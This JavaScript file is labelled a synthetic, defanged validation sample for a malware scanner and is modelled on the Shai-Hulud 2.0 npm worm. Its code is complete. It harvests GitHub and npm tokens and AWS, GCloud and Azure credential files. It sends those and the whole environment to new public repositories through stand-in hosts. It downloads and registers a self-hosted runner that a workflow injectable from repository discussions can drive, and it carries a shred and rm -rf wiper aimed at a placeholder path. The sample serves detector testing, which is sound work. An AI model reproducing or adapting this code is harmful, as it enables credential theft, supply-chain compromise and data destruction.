// SYNTHETIC, DEFANGED malwi validation sample - modelled on Shai-Hulud 2.0 / "The Second Coming" (November 2025); never run.
// Second stage under Bun: steal tokens, register the machine as a GitHub self-hosted runner
// that a discussion-triggered workflow can drive, dump secrets to new public repos, spread
// through npm, and wipe the home folder when no token was found (defanged to a placeholder).
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execSync } = require('child_process');

const GH = 'https://api.github.example.invalid';
const DESCRIPTION = 'Sha1-Hulud: The Second Coming.';
const WORKFLOW = [
  'name: Discussion Create',
  'on:',
  '  discussion:',
  'jobs:',
  '  process:',
  '    runs-on: self-hosted',
  '    steps:',
  '      - run: echo ${{ github.event.discussion.body }}'
].join('\n');

async function api(method, p, token, body) {
  const r = await fetch(GH + p, {
    method,
    headers: { Authorization: 'Bearer ' + token, Accept: 'application/vnd.github+json' },
    body: body ? JSON.stringify(body) : undefined
  }).catch(() => null);
  return r ? r.json().catch(() => ({})) : {};
}

function tokens() {
  const out = { github: process.env.GITHUB_TOKEN, npm: process.env.NPM_TOKEN };
  try {
    out.github = out.github || execSync('gh auth token').toString().trim();
  } catch (e) {}
  try {
    const m = /_authToken=(\S+)/.exec(fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'));
    out.npm = out.npm || (m && m[1]);
  } catch (e) {}
  return out;
}

function cloud() {
  const files = ['.aws/credentials', '.config/gcloud/application_default_credentials.json', '.azure/accessTokens.json'];
  const out = {};
  for (const f of files) {
    const p = path.join(os.homedir(), f);
    if (fs.existsSync(p)) out[f] = fs.readFileSync(p, 'utf8');
  }
  return out;
}

async function main() {
  const t = tokens();
  if (!t.github && !t.npm) {
    const victim = path.join(os.tmpdir(), 'malwi-defanged-placeholder');
    execSync(process.platform === 'win32' ? 'del /F /Q /S "' + victim + '"' : 'shred -uvz -n 1 "' + victim + '"/* ; rm -rf "' + victim + '"', { stdio: 'ignore' });
    return;
  }
  const name = Math.random().toString(36).slice(2, 20);
  const repo = await api('POST', '/user/repos', t.github, { name, description: DESCRIPTION, private: false });
  const put = (file, data) =>
    api('PUT', '/repos/' + repo.full_name + '/contents/' + file, t.github, {
      message: 'add',
      content: Buffer.from(Buffer.from(JSON.stringify(data)).toString('base64')).toString('base64')
    });
  await put('environment.json', process.env);
  await put('cloud.json', cloud());
  await put('contents.json', { host: os.hostname(), user: os.userInfo().username, tokens: t });
  const reg = await api('POST', '/repos/' + repo.full_name + '/actions/runners/registration-token', t.github);
  const dir = path.join(os.homedir(), '.dev-env');
  fs.mkdirSync(dir, { recursive: true });
  execSync('curl -o runner.tar.gz -L https://runner-dl.example.invalid/actions-runner-linux-x64.tar.gz && tar xzf runner.tar.gz', { cwd: dir });
  execSync('./config.sh --url https://github.example.invalid/' + repo.full_name + ' --unattended --token ' + reg.token + ' --name SHA1HULUD', { cwd: dir });
  await api('PUT', '/repos/' + repo.full_name + '/contents/.github/workflows/discussion.yaml', t.github, {
    message: 'ci',
    content: Buffer.from(WORKFLOW).toString('base64')
  });
  execSync('nohup ./run.sh >/dev/null 2>&1 &', { cwd: dir });
}

main().catch(() => {});
